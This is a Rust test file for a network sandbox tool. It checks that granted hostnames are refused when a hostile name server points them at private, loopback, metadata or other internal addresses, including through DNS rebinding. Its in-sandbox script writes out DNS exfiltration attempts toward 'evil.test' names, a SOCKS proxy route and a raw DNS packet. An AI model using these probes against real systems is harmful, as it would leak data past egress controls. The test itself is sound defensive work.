//! Names: as data on their way out, and as ways to addresses that nobody granted. In a network of the test's own, with a
//! name server that means ill.

use super::scene::Scene;
use cofferdam_testkit::Owner;
use std::process::Command;

/// Of each of these the name server says something else than an address that is out on the internet.
const FALSE: [&str; 15] = [
    "private",
    "loopback",
    "mixed",
    "six",
    "mapped",
    "nat64",
    "sixtofour",
    "teredo",
    "link",
    "shared",
    "metadata",
    "benchmark",
    "multicast",
    "zero",
    "alias",
];

/// Makes the network, starts the servers, becomes the owner and runs what follows; then the servers end.
const NETWORK: &str = r#"
ip link set lo up; ip address add 93.184.216.34/32 dev lo
mount --make-rprivate /; mount --bind "$1/resolv.conf" /etc/resolv.conf
python3 "$1/names.py" "$1" & servers=$!
for _ in $(seq 200); do [ -e "$1/ready" ] && break; sleep 0.05; done
become=$2; shift 2; set +e
$become "$@"; status=$?
kill $servers; exit $status
"#;

/// A session in such a network.
fn session(scene: &Scene, flags: &[&str], script: &str) -> (String, String) {
    assert_eq!(
        Owner::current(),
        Owner::Root,
        "only root can make a network with a name server: run the tests as root"
    );
    let directory = scene.home.directory("names");
    scene.home.write("names/resolv.conf", "nameserver 127.0.0.1\n");
    scene.home.write("names/names.py", include_str!("names.py"));
    scene.home.write("names/asked", "");
    let words = [&["run", "--name", "one"], flags, &["--", "sh", "-c", script]].concat();
    let wanted = scene.cofferdam(&words).command();
    let (uid, gid) = (scene.home.uid(), scene.home.gid());
    let change = match super::OWNER {
        Owner::Root => "env".to_owned(),
        Owner::Ordinary => format!("setpriv --reuid={uid} --regid={gid} --clear-groups"),
    };
    let mut command = Command::new("timeout");
    command.args(["50", "unshare", "-mn", "sh", "-euc", NETWORK, "sh"]).arg(&directory).arg(change);
    command.arg(wanted.get_program()).args(wanted.get_args()).env_clear();
    command.envs(wanted.get_envs().filter_map(|(key, value)| Some((key, value?))));
    command.current_dir(wanted.get_current_dir().unwrap_or(&directory));
    let run = command.output().unwrap();
    let told = String::from_utf8_lossy(&run.stdout).into_owned();
    assert!(run.status.success(), "{told} {}", String::from_utf8_lossy(&run.stderr));
    (told, std::fs::read_to_string(directory.join("asked")).unwrap())
}

#[test]
fn a_granted_name_that_leads_inside_is_refused_also_when_it_changes_its_mind() {
    let scene = Scene::new();
    let grants: Vec<String> =
        FALSE.iter().chain(&["public", "rebound"]).map(|name| format!("http://{name}.test:8080")).collect();
    let flags: Vec<&str> = grants.iter().flat_map(|grant| ["--allow", grant]).collect();
    let names = FALSE.join(" ");
    let script = format!(
        "for n in public {names}; do echo \"$n $(curl -sS -m 20 http://$n.test:8080/)\"; done; \
         for i in 1 2 3; do sleep 1.2; echo \"rebound $(curl -sS -m 20 http://rebound.test:8080/)\"; done"
    );
    let (told, asked) = session(&scene, &flags, &script);
    assert!(told.contains("public outside"), "{told}");
    for name in FALSE {
        let line = told.lines().find(|line| line.starts_with(&format!("{name} "))).unwrap();
        assert!(line.contains("address-not-global"), "{line}");
    }
    let rebound: Vec<&str> = told.lines().filter(|line| line.starts_with("rebound ")).collect();
    assert!(rebound[0].contains("outside") && rebound.len() == 3, "{told}");
    for line in &rebound[1..] {
        assert!(line.contains("outside") || line.contains("address-not-global"), "{line}");
    }
    assert!(rebound[2].contains("address-not-global"), "the name server was asked again: {told}");
    assert!(!told.contains("INSIDE"), "{told}");
    assert!(asked.lines().filter(|name| *name == "rebound.test").count() >= 2, "{asked}");
}

#[test]
fn no_name_that_is_not_granted_is_asked_for_outside() {
    let scene = Scene::new();
    let script = "for n in secret.data.evil.test $(printf 'a%.0s' $(seq 60)).evil.test public.test.evil.test; do \
         getent hosts $n; curl -sS -m 9 http://$n/; echo; curl -sS -m 9 -k https://$n/; echo; \
         curl -sS -m 9 --socks5-hostname 198.18.0.1:1080 http://$n/; echo; done; \
         python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); \
         s.sendto(bytes.fromhex(\"000701000001000000000000\") + b\"\\x06direct\\x04evil\\x04test\\0\\0\\x01\\0\\x01\", \
         (\"127.0.0.1\", 53)); print(len(s.recv(512)))'; \
         curl -sS http://public.test:8080/";
    let (told, asked) = session(&scene, &["--allow", "http://public.test:8080"], script);
    assert!(told.ends_with("outside"), "{told}");
    assert!(told.matches("host-not-granted").count() >= 9, "{told}");
    let asked: std::collections::BTreeSet<&str> = asked.lines().collect();
    assert_eq!(asked, ["public.test"].into(), "{told}");
}
